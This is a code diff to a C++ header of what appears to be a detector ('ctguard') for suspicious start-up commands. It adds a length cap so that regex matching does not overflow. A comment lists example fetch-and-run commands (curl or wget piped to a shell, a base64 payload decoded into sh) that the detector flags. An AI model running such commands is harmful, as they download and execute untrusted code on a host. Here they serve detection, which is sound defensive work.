@@ -8,9 +8,15 @@
 
 namespace ctguard {
 
+// Longer lines are not judged: libstdc++'s std::regex matcher recurses once per character and overflows
+// the stack on a line of a few hundred KiB, and no real start-up command is this long. A caller reports
+// such a line as too long to judge, since padding is a way to hide one.
+inline constexpr size_t max_command_length = 4096;
+
 // True for a downloader or decoder whose output is run:
 //   curl -fsSL http://x/a.sh | sh        wget -qO- x | bash        bash -c "$(curl -s x)"
 //   wget x -O /tmp/k; chmod +x /tmp/k     echo aGk= | base64 -d | sh    bash <(curl -s x)
+// False for a command longer than max_command_length.
 bool runs_fetched_code(std::string_view command);
 
 // The program (or script given to an interpreter) the command runs from /tmp, /var/tmp, /dev/shm or a
